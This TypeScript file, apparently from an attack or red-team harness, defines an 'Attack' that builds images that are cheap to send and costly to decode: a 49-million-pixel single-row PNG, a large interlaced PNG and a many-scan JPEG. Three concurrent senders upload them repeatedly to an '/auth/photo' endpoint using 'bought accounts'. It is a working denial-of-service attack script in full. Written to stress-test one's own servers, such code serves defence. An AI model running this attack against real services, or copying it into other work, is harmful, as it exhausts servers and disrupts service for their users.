import { formOf } from '../ask.ts';
import type { Attack } from './attack.ts';
import { makePng, makeScans } from './picture-bytes.ts';

/** At once: the server decodes them one after the other. */
const SENDERS = 3;
/** Each is below fifty million pixels, and the other two below 64 MB decoded. */
const ROW_WIDTH = 49_000_000;
const SCANS_SIDE = 5_784;
const INTERLACED_SIDE = 4_000;

/**
 * Pictures that are small to send and costly to decode, one after the other from bought accounts: a row of 49,000,000
 * pixels, an interlaced PNG, and a JPEG of 883 scans.
 */
export const sendPictures: Attack = async ({ loot, attempt, isOver, count }) => {
  const pictures = [
    { type: 'image/png', bytes: await makePng({ width: ROW_WIDTH, height: 1, bitDepth: 16 }) },
    { type: 'image/jpeg', bytes: makeScans(SCANS_SIDE) },
    {
      type: 'image/png',
      bytes: await makePng({
        width: INTERLACED_SIDE,
        height: INTERLACED_SIDE,
        bitDepth: 8,
        isInterlaced: true,
      }),
    },
  ].map(({ type, bytes }) => ({ type, bytes: new Uint8Array(bytes) }));
  let turn = 0;
  const send = async (): Promise<void> => {
    while (!isOver()) {
      const picture = pictures[turn % pictures.length];
      const donor = loot.donors[turn % loot.donors.length];
      turn += 1;
      if (!picture || !donor) return;
      const { status } = await attempt(
        donor,
        'POST',
        '/auth/photo',
        formOf('photo', picture.bytes, picture.type),
      );
      if (status === 200 || status === 201) count('pictures taken');
    }
  };
  await Promise.all(Array.from({ length: SENDERS }, send));
};
